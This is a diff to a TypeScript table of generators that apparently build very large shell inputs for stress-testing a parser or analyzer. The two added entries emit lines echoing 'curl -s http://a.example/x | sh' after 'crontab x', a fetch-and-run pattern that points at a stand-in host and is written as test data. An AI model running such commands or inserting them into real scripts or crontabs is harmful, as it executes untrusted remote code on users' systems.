@@ -108,6 +108,10 @@ const SHELL: Readonly<Record<string, Maker>> = {
   'a script of sed of 250,000 lines': (n) => `sed '${'\n'.repeat(250_000 * n)}' x\n`,
   'a command of vim of 250,000 lines': (n) => `vim -c '${'\n'.repeat(250_000 * n)}'\n`,
   'a command of sqlite3 of 250,000 lines': (n) => `sqlite3 x.db '${'\n'.repeat(250_000 * n)}'\n`,
+  'shown commands, 10,000 of them': (n) =>
+    `crontab x\n${each(10_000 * n, (i) => `echo "curl -s http://a.example/x${i} | sh"`, '\n')}\n`,
+  'a shown command before 200,000 lines': (n) =>
+    `crontab x\necho "curl -s http://a.example/x | sh"\n${'\n'.repeat(200_000 * n)}x\n`,
   'a million tokens': (n) => 'a b c d\n'.repeat(200_000 * n),
   '3 MB on one line': (n) => `a ${each(150_000 * n, (i) => `'${String(i).padStart(16, 'a')}'`, ' ')}\n`,
   'a million short strings': (n) => `x=(${"'a' ".repeat(1_000_000 * n)})\n`,
